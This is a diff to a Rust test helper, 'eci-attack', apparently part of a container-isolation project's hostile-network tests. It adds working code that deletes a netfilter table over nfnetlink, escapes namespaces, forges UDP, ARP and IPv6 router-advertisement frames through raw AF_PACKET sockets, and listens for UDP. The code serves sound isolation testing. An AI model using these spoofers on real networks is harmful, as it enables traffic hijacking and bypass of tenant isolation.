@@ -18,6 +18,11 @@
 //! - `eci-attack userns`: container root, in its group's user namespace, tries to leave
 //!   it: mounts, `pivot_root`, new user and mount namespaces, host-wide sysctls, and the
 //!   group's and the host's namespaces by `setns`; prints `name: ok` or `name: <errno>`.
+//! - `eci-attack netadmin`: without `CAP_NET_ADMIN`, tries to delete its security-group
+//!   table over nfnetlink and to get a network namespace of its own (see `netadmin`).
+//! - `eci-attack spoof-udp …`, `spoof-arp …`, `spoof-ra PREFIX`: writes forged frames
+//!   (another source IP or MAC, gratuitous ARP, a router advertisement) below netfilter with an `AF_PACKET` socket (`CAP_NET_RAW`).
+//! - `eci-attack udp-listen PORT`: prints each datagram and its source.
 
 use std::collections::{HashMap, HashSet};
 use std::fs::{File, OpenOptions};
@@ -48,6 +53,11 @@ fn main() {
         Some("userns") => userns(),
         Some("setcap") if args.len() == 2 => setcap(&args[1]),
         Some("race") if args.len() == 4 => race(&args[1], &args[2], &args[3]),
+        Some("netadmin") => netadmin(),
+        Some("spoof-udp") if args.len() == 7 => spoof_udp(&args[1..]),
+        Some("spoof-arp") if args.len() >= 2 => spoof_arp(&args[1..]),
+        Some("udp-listen") if args.len() == 2 => udp_listen(&args[1]),
+        Some("spoof-ra") if args.len() == 2 => spoof_ra(&args[1]),
         _ => {
             eprintln!("usage: eci-attack watch OUT SECONDS | syscalls | fds | whoami | userns");
             std::process::exit(2);
@@ -434,4 +444,325 @@ fn setcap(file: &str) {
                 as libc::c_long
         }
     });
+}
+
+// ---------------------------------------------------------------------------------------
+// Network attacks (tests/tests/hostile_network.rs).
+
+/// `eci-attack netadmin`: container root tries to change its group's network without
+/// `CAP_NET_ADMIN`: delete the security-group table over nfnetlink, new network and
+/// user namespaces, and from a nested user namespace (if one could be made) the group's
+/// netns. Prints `name: ok` or `name: <errno>`.
+fn netadmin() {
+    attempt("nft_delete_eci_sg", nft_delete_table);
+    attempt("unshare_net", || unsafe {
+        // SAFETY: a raw syscall with an integer argument.
+        libc::syscall(libc::SYS_unshare, libc::CLONE_NEWNET)
+    });
+    attempt("unshare_user_net", || unsafe {
+        // SAFETY: as above.
+        libc::syscall(libc::SYS_unshare, libc::CLONE_NEWUSER | libc::CLONE_NEWNET)
+    });
+    // A nested user namespace would hold every capability, but over its own new netns
+    // only: joining the group's netns (owned by the parent user namespace) must fail.
+    attempt("nested_userns_setns_group_netns", || {
+        let group = File::open("/proc/self/ns/net");
+        // SAFETY: the child makes raw calls only and `_exit`s; the fd outlives them.
+        unsafe {
+            let pid = libc::fork();
+            if pid == 0 {
+                let ok = libc::unshare(libc::CLONE_NEWUSER) == 0
+                    && group
+                        .as_ref()
+                        .is_ok_and(|f| libc::setns(f.as_raw_fd(), libc::CLONE_NEWNET) == 0);
+                libc::_exit(if ok { 0 } else { 1 });
+            }
+            let mut status = 0;
+            libc::waitpid(pid, &mut status, 0);
+            if libc::WIFEXITED(status) && libc::WEXITSTATUS(status) == 0 {
+                0
+            } else {
+                *libc::__errno_location() = libc::EPERM;
+                -1
+            }
+        }
+    });
+    println!("netadmin-done");
+}
+
+/// Sends one nf_tables batch deleting table `inet eci_sg`; returns 0 or -1 with errno
+/// set to the kernel's answer.
+fn nft_delete_table() -> libc::c_long {
+    fn msg(buf: &mut Vec<u8>, ty: u16, flags: u16, seq: u32, family: u8, res: u16, attrs: &[u8]) {
+        buf.extend_from_slice(&((20 + attrs.len()) as u32).to_ne_bytes());
+        buf.extend_from_slice(&ty.to_ne_bytes());
+        buf.extend_from_slice(&flags.to_ne_bytes());
+        buf.extend_from_slice(&seq.to_ne_bytes());
+        buf.extend_from_slice(&0u32.to_ne_bytes());
+        buf.extend_from_slice(&[family, 0]);
+        buf.extend_from_slice(&res.to_be_bytes());
+        buf.extend_from_slice(attrs);
+    }
+    let name = b"eci_sg\0";
+    let mut attr = Vec::new();
+    attr.extend_from_slice(&((4 + name.len()) as u16).to_ne_bytes());
+    attr.extend_from_slice(&1u16.to_ne_bytes()); // NFTA_TABLE_NAME
+    attr.extend_from_slice(name);
+    attr.resize(attr.len().next_multiple_of(4), 0);
+    let mut buf = Vec::new();
+    msg(&mut buf, 0x10, 1, 1, 0, 10, &[]); // BATCH_BEGIN, subsys nftables
+    msg(&mut buf, (10 << 8) | 2, 1 | 4, 2, 1, 0, &attr); // DELTABLE inet, ACK
+    msg(&mut buf, 0x11, 1, 3, 0, 10, &[]); // BATCH_END
+    // SAFETY: plain socket calls on a descriptor this function owns; the buffers
+    // outlive the calls.
+    unsafe {
+        let fd = libc::socket(libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_NETFILTER);
+        if fd < 0 {
+            return -1;
+        }
+        let tv = libc::timeval {
+            tv_sec: 3,
+            tv_usec: 0,
+        };
+        libc::setsockopt(
+            fd,
+            libc::SOL_SOCKET,
+            libc::SO_RCVTIMEO,
+            (&tv as *const libc::timeval).cast(),
+            std::mem::size_of::<libc::timeval>() as u32,
+        );
+        if libc::send(fd, buf.as_ptr().cast(), buf.len(), 0) < 0 {
+            let e = *libc::__errno_location();
+            libc::close(fd);
+            *libc::__errno_location() = e;
+            return -1;
+        }
+        let mut reply = [0u8; 4096];
+        let n = libc::recv(fd, reply.as_mut_ptr().cast(), reply.len(), 0);
+        libc::close(fd);
+        if n < 20 {
+            *libc::__errno_location() = libc::EIO;
+            return -1;
+        }
+        // NLMSG_ERROR (2): its first 4 bytes are -errno (0: an ACK).
+        let ty = u16::from_ne_bytes([reply[4], reply[5]]);
+        let code = i32::from_ne_bytes([reply[16], reply[17], reply[18], reply[19]]);
+        if ty == 2 && code != 0 {
+            *libc::__errno_location() = -code;
+            return -1;
+        }
+        0
+    }
+}
+
+fn parse_mac(s: &str) -> [u8; 6] {
+    let mut m = [0u8; 6];
+    for (i, p) in s.trim().split(':').enumerate().take(6) {
+        m[i] = u8::from_str_radix(p, 16).expect("MAC");
+    }
+    m
+}
+
+/// eth0's MAC and IPv4 address.
+fn own_eth0() -> ([u8; 6], std::net::Ipv4Addr) {
+    let mac = parse_mac(&std::fs::read_to_string("/sys/class/net/eth0/address").expect("mac"));
+    // /proc/net/fib_trie is verbose; the "LOCAL" host entry under eth0's subnet is ours.
+    let trie = std::fs::read_to_string("/proc/net/fib_trie").unwrap_or_default();
+    let mut last = None;
+    let mut ip = None;
+    for l in trie.lines() {
+        let t = l.trim_start_matches([' ', '|', '-', '+']).trim();
+        if let Ok(a) = t.parse::<std::net::Ipv4Addr>() {
+            last = Some(a);
+        } else if t.contains("host LOCAL")
+            && let Some(a) = last.filter(|a| !a.is_loopback())
+        {
+            ip = Some(a);
+        }
+    }
+    (mac, ip.expect("eth0 has an IPv4 address"))
+}
+
+/// Writes Ethernet frames to eth0 through an `AF_PACKET` socket (needs `CAP_NET_RAW`):
+/// netfilter in the sender's netns never sees them.
+fn send_frames(frames: &[Vec<u8>]) -> std::io::Result<()> {
+    let name = std::ffi::CString::new("eth0").expect("name");
+    // SAFETY: plain socket calls; `sll` and the frames outlive them.
+    unsafe {
+        let fd = libc::socket(libc::AF_PACKET, libc::SOCK_RAW, 0);
+        if fd < 0 {
+            return Err(std::io::Error::last_os_error());
+        }
+        let mut sll: libc::sockaddr_ll = std::mem::zeroed();
+        sll.sll_family = libc::AF_PACKET as u16;
+        sll.sll_ifindex = libc::if_nametoindex(name.as_ptr()) as i32;
+        sll.sll_halen = 6;
+        for f in frames {
+            sll.sll_addr[..6].copy_from_slice(&f[..6]);
+            let r = libc::sendto(
+                fd,
+                f.as_ptr().cast(),
+                f.len(),
+                0,
+                (&sll as *const libc::sockaddr_ll).cast(),
+                std::mem::size_of::<libc::sockaddr_ll>() as u32,
+            );
+            if r < 0 {
+                let e = std::io::Error::last_os_error();
+                libc::close(fd);
+                return Err(e);
+            }
+        }
+        libc::close(fd);
+    }
+    Ok(())
+}
+
+fn ipv4_checksum(h: &[u8]) -> u16 {
+    let mut sum: u32 = h
+        .chunks(2)
+        .map(|c| u32::from(u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)])))
+        .sum();
+    while sum > 0xffff {
+        sum = (sum & 0xffff) + (sum >> 16);
+    }
+    !(sum as u16)
+}
+
+/// `eci-attack spoof-udp SRC_IP SRC_MAC DST_IP DST_MAC PORT PAYLOAD`: one UDP datagram
+/// with any source, written below netfilter. `self` stands for eth0's own address or
+/// MAC. Prints `sent` or the errno.
+fn spoof_udp(a: &[String]) {
+    let (mac, ip) = own_eth0();
+    let src_ip: std::net::Ipv4Addr = if a[0] == "self" {
+        ip
+    } else {
+        a[0].parse().expect("SRC_IP")
+    };
+    let src_mac = if a[1] == "self" {
+        mac
+    } else {
+        parse_mac(&a[1])
+    };
+    let dst_ip: std::net::Ipv4Addr = a[2].parse().expect("DST_IP");
+    let dst_mac = parse_mac(&a[3]);
+    let port: u16 = a[4].parse().expect("PORT");
+    let payload = format!("{}\n", a[5]).into_bytes();
+    let mut f = Vec::new();
+    f.extend_from_slice(&dst_mac);
+    f.extend_from_slice(&src_mac);
+    f.extend_from_slice(&[0x08, 0x00]);
+    let total = (20 + 8 + payload.len()) as u16;
+    let mut h = vec![0x45, 0, 0, 0, 0x12, 0x34, 0x40, 0, 64, 17, 0, 0];
+    h[2..4].copy_from_slice(&total.to_be_bytes());
+    h.extend_from_slice(&src_ip.octets());
+    h.extend_from_slice(&dst_ip.octets());
+    let c = ipv4_checksum(&h);
+    h[10..12].copy_from_slice(&c.to_be_bytes());
+    f.extend_from_slice(&h);
+    f.extend_from_slice(&40000u16.to_be_bytes());
+    f.extend_from_slice(&port.to_be_bytes());
+    f.extend_from_slice(&((8 + payload.len()) as u16).to_be_bytes());
+    f.extend_from_slice(&[0, 0]); // no UDP checksum (allowed over IPv4)
+    f.extend_from_slice(&payload);
+    match send_frames(&[f]) {
+        Ok(()) => println!("sent"),
+        Err(e) => println!("spoof-udp: {}", errno_of(&e)),
+    }
+}
+
+/// `eci-attack spoof-arp IP [MAC]`: gratuitous ARP (a request and a reply, broadcast)
+/// saying IP is at MAC (eth0's own MAC by default): what an ARP spoofer sends to steal
+/// IP's traffic. Prints `sent` or the errno.
+fn spoof_arp(a: &[String]) {
+    let (own, _) = own_eth0();
+    let ip: std::net::Ipv4Addr = a[0].parse().expect("IP");
+    let mac = a.get(1).map(|m| parse_mac(m)).unwrap_or(own);
+    let frames: Vec<Vec<u8>> = [1u8, 2]
+        .iter()
+        .map(|op| {
+            let mut f = vec![0xff; 6];
+            f.extend_from_slice(&mac);
+            f.extend_from_slice(&[0x08, 0x06, 0, 1, 0x08, 0, 6, 4, 0, *op]);
+            f.extend_from_slice(&mac);
+            f.extend_from_slice(&ip.octets());
+            f.extend_from_slice(&[0xff; 6]);
+            f.extend_from_slice(&ip.octets());
+            f
+        })
+        .collect();
+    match send_frames(&frames) {
+        Ok(()) => println!("sent"),
+        Err(e) => println!("spoof-arp: {}", errno_of(&e)),
+    }
+}
+
+/// `eci-attack udp-listen PORT`: prints `got <payload> from <source>` per datagram.
+fn udp_listen(port: &str) {
+    let s =
+        std::net::UdpSocket::bind(("0.0.0.0", port.parse::<u16>().expect("PORT"))).expect("bind");
+    let mut buf = [0u8; 2048];
+    loop {
+        if let Ok((n, from)) = s.recv_from(&mut buf) {
+            println!(
+                "got {} from {}",
+                String::from_utf8_lossy(&buf[..n]).trim(),
+                from.ip()
+            );
+            let _ = std::io::stdout().flush();
+        }
+    }
+}
+
+/// eth0's IPv6 link-local address, from /proc/net/if_inet6.
+fn own_link_local() -> std::net::Ipv6Addr {
+    let t = std::fs::read_to_string("/proc/net/if_inet6").expect("if_inet6");
+    t.lines()
+        .filter(|l| l.ends_with(" eth0") && l.starts_with("fe80"))
+        .find_map(|l| u128::from_str_radix(l.split(' ').next()?, 16).ok())
+        .map(std::net::Ipv6Addr::from)
+        .expect("eth0 has a link-local address")
+}
+
+/// `eci-attack spoof-ra PREFIX`: an ICMPv6 router advertisement to all nodes from eth0's
+/// link-local address, offering a default route and SLAAC prefix PREFIX/64: what a
+/// tenant sends to become the other groups' router. Prints `sent` or the errno.
+fn spoof_ra(prefix: &str) {
+    let (mac, _) = own_eth0();
+    let src = own_link_local();
+    let dst: std::net::Ipv6Addr = "ff02::1".parse().expect("ff02::1");
+    let prefix: std::net::Ipv6Addr = prefix.parse().expect("PREFIX");
+    // RA: type, code, checksum, hop limit, flags, router lifetime, reachable, retrans.
+    let mut icmp = vec![134, 0, 0, 0, 64, 0];
+    icmp.extend_from_slice(&1800u16.to_be_bytes());
+    icmp.extend_from_slice(&[0; 8]);
+    // Prefix information: on-link and autonomous, valid 1 day, preferred 4 h.
+    icmp.extend_from_slice(&[3, 4, 64, 0xc0]);
+    icmp.extend_from_slice(&86400u32.to_be_bytes());
+    icmp.extend_from_slice(&14400u32.to_be_bytes());
+    icmp.extend_from_slice(&[0; 4]);
+    icmp.extend_from_slice(&prefix.octets());
+    // Source link-layer address.
+    icmp.extend_from_slice(&[1, 1]);
+    icmp.extend_from_slice(&mac);
+    let mut pseudo = Vec::new();
+    pseudo.extend_from_slice(&src.octets());
+    pseudo.extend_from_slice(&dst.octets());
+    pseudo.extend_from_slice(&(icmp.len() as u32).to_be_bytes());
+    pseudo.extend_from_slice(&[0, 0, 0, 58]);
+    pseudo.extend_from_slice(&icmp);
+    let c = ipv4_checksum(&pseudo);
+    icmp[2..4].copy_from_slice(&c.to_be_bytes());
+    let mut f = vec![0x33, 0x33, 0, 0, 0, 1];
+    f.extend_from_slice(&mac);
+    f.extend_from_slice(&[0x86, 0xdd, 0x60, 0, 0, 0]);
+    f.extend_from_slice(&(icmp.len() as u16).to_be_bytes());
+    f.extend_from_slice(&[58, 255]);
+    f.extend_from_slice(&src.octets());
+    f.extend_from_slice(&dst.octets());
+    f.extend_from_slice(&icmp);
+    match send_frames(&[f]) {
+        Ok(()) => println!("sent"),
+        Err(e) => println!("spoof-ra: {}", errno_of(&e)),
+    }
 }
